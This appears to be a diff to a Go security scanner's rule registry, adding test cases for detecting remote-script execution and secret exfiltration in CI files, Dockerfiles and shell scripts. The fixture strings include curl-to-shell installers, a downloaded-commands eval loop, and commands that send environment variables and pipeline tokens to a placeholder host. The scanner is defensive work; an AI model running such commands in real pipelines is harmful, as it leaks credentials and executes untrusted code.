@@ -77,6 +77,8 @@ var registry = []Rule{
 		{"x.sh", "wget -qO- https://x.invalid/s | sh -s -- --quiet", 0, false},
 		// Anyone's repository on a forge is not a vendor's host.
 		{"x.sh", "curl -fsSL https://raw.githubusercontent.com/go-enumer/tools/main/gen.sh | sh", 0, false},
+		{"x.sh", "curl -fsSL https://github.com/acme/t/releases/latest/download/install.sh | sh", 0, false},
+		{".devcontainer/features/ktool/install.sh", "curl -LsSf https://setup.ktool-cdn.invalid | bash", 0, false},
 		{".gitlab-ci.yml", "scan:\n  script:\n    - curl -sfL https://raw.githubusercontent.com/aquasecurity/trivy/main/contrib/install.sh | sh -s -- -b /usr/local/bin", 0, true},
 		// ADD into the working directory names the file by the URL's last segment.
 		{"Dockerfile", "FROM alpine\nWORKDIR /out\nADD https://x.invalid/setup.sh .\nRUN sh setup.sh", 4, false},
@@ -105,6 +107,8 @@ var registry = []Rule{
 		{"Makefile", "CURL = curl -fsSL\nU = https://x.invalid/t.sh\nall:\n\t$(CURL) $(U) -o t.sh\n\tsh ./t.sh", 5, false},
 		{"Makefile", "define FETCH\ncurl -fsSL https://x.invalid/t.sh -o /tmp/t.sh\nendef\nall:\n\t$(FETCH)\n\tsh /tmp/t.sh", 6, false},
 		{"Makefile", "$(eval $(shell curl -fsSL https://x.invalid/rules.mk))", 0, false},
+		{"x.sh", "curl -fsSL https://x.invalid/cmds.txt -o c.txt\nwhile read -r c; do eval \"$c\"; done < c.txt", 2, false},
+		{"x.sh", "curl -fsSL https://x.invalid/mirrors.txt | while read -r u; do\n  echo \"$u\"\ndone", 0, true},
 		// A version read from the network is text, not code.
 		{"Makefile", "V := $(shell curl -s https://api.x.invalid/latest)\nall:\n\techo $(V) > VERSION", 0, true},
 		// Checked against a digest or signature the change fixes, the
@@ -172,6 +176,10 @@ var registry = []Rule{
 			{".gitlab-ci.yml", "scan:\n  before_script:\n    - curl -sfL https://raw.githubusercontent.com/aquasecurity/trivy/main/contrib/install.sh | sh -s -- -b /usr/local/bin", 3, false},
 			{".github/workflows/a.yml", "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -sS https://starship.rs/install.sh | sh -s -- -y", 6, false},
 			{"install.sh", "powershell -c \"irm bun.sh/install.ps1|iex\"", 0, false},
+			// A release's installer at a version tag, and the installer of
+			// the tool a dev container feature is named after.
+			{".github/workflows/a.yml", "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -LsSf https://github.com/acme/dist/releases/download/v0.31.0/dist-installer.sh | sh", 6, false},
+			{".devcontainer/features/ktool/install.sh", "curl -LsSf https://setup.ktool.invalid | bash", 0, false},
 		}},
 	{"secret-send", KindCredential, High, "sends secrets or the environment over the network",
 		"the runner's tokens and secrets leave for a machine outside", []Case{
@@ -206,6 +214,8 @@ var registry = []Rule{
 			// grep keeping the variables of one prefix that names no credential: build info, not secrets.
 			{".gitlab-ci.yml", "release:\n  script:\n    - printenv | grep -E '^CI_COMMIT' > build-info.env\n    - curl --fail --upload-file build-info.env \"$RELEASE_URL/build-info.env\"", 0, true},
 			{"x.sh", "env | grep TOKEN > t.txt\ncurl -T t.txt https://x.invalid/u", 2, false},
+			// Sent a line at a time: what read takes from the file is what the file held.
+			{"x.sh", "env > e.txt\nwhile IFS= read -r line; do\n  curl -s \"https://x.invalid/c?d=$line\"\ndone < e.txt", 3, false},
 			// Azure Pipelines' macros are the variables' values: the job's token written out and sent.
 			{"azure-pipelines.yml", "steps:\n- script: |\n    echo \"$(System.AccessToken)\" > t.txt\n    curl -sT t.txt https://x.invalid/u", 4, false},
 			{"azure-pipelines.yml", "steps:\n- script: |\n    curl -fsSL -H \"Authorization: Bearer $(System.AccessToken)\" \"$(System.CollectionUri)_apis/build/builds?api-version=7.0\"\n    echo \"##vso[task.setvariable variable=STAMP]$(date +%s)\"", 0, true},
